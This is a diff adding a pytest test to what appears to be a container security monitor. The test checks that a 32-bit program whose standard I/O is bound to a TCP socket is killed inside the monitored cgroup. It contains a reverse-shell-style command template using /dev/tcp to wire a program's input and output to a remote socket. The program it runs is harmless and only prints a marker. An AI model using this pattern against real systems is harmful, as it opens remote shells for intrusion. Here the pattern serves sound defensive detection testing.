@@ -5,7 +5,11 @@ then that nothing arrives from inside the agent."""
 
 from __future__ import annotations
 
+import os
+import platform
+
 import pytest
+from exec_harness import compile_c
 
 from pycontain.core.events import ConfigFlag, Flag, StdioSocketEvent, Verdict
 
@@ -67,3 +71,36 @@ subprocess.run(["sh", "-c", "echo LO-OK"], stdout=c)
 print(s.recv(100).decode().strip())
 """)
     assert r.out.split() == ["UNIX-OK", "LO-OK"], r.err
+
+
+
+PAYLOAD32_C = r"""
+void _start(void) {   /* a 32-bit program: write a line to fd 1, exit; no libc */
+    static const char msg[] = "SHELL-OUTPUT\n";
+    long r;
+    __asm__ volatile("int $0x80" : "=a"(r) : "a"(4), "b"(1), "c"(msg), "d"(sizeof msg - 1) : "memory");
+    __asm__ volatile("int $0x80" : : "a"(1), "b"(0));
+    for (;;) ;
+}
+"""
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="a 32-bit x86 payload")
+def test_32bit_program_with_socket_stdio_never_runs(stdio_tables, testhost, tmp_path):
+    """The exec of a 32-bit program returns through the compat path, which
+    the syscalls:* tracepoints skip (the check used to sit on
+    sys_exit_execve and missed it); sched_process_exec fires for every exec.
+    The agent here joined its cgroup itself: no seccomp filter kills the
+    32-bit program's first system call first, as `run`'s does."""
+    net_agent = stdio_tables
+    os.chmod(tmp_path, 0o755)
+    payload = compile_c(tmp_path, PAYLOAD32_C, "payload32", "-m32", "-nostdlib", "-static", "-fno-pie", "-no-pie")
+    script = "exec 3<>/dev/tcp/{h}/{p}; {x} <&3 >&3 2>&3"
+    bare = testhost.tcp_listener(47105)
+    _shell(net_agent, False, script.format(h=testhost.peer_ip4, p=47105, x=payload))
+    assert bare.wait(contains=b"SHELL-OUTPUT")
+    inside = testhost.tcp_listener(47106)
+    _shell(net_agent, True, script.format(h=testhost.peer_ip4, p=47106, x=payload))
+    assert not inside.wait(contains=b"SHELL-OUTPUT", timeout=1.5)
+    ev = net_agent.wait_for(lambda e: isinstance(e, StdioSocketEvent))
+    assert ev and ev[0].h.flags & Flag.KILLED and ev[0].dport == 47106
